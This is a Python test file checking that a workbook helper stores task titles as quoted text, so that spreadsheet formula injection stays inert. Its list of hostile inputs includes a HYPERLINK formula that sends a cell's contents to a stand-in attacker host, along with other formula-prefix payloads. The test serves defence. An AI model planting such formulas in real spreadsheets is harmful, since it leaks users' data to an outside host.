"""Text in a workbook stays text: formulas typed into a task title are never live."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from ttdn.core.xlsx import append_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "=1+1",
]


def _workbook(values: list[object]) -> bytes:
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    append_row(sheet, ["Nhiệm vụ", "Tiến độ"])
    for value in values:
        append_row(sheet, [value, 50])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_text_is_written_as_text() -> None:
    sheet = load_workbook(io.BytesIO(_workbook([*HOSTILE, "Bình thường"]))).worksheets[0]
    for row, value in enumerate([*HOSTILE, "Bình thường"], start=2):
        cell = sheet.cell(row, 1)
        assert (cell.data_type, cell.value) == ("s", value), row
        assert cell.quotePrefix == value.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert sheet.cell(row, 2).data_type == "n"  # numbers stay numbers


def test_control_characters_a_workbook_cannot_hold_are_dropped() -> None:
    sheet = load_workbook(io.BytesIO(_workbook(["Tên\x00 có\x07 ký tự lạ"]))).worksheets[0]
    assert sheet.cell(2, 1).value == "Tên có ký tự lạ"
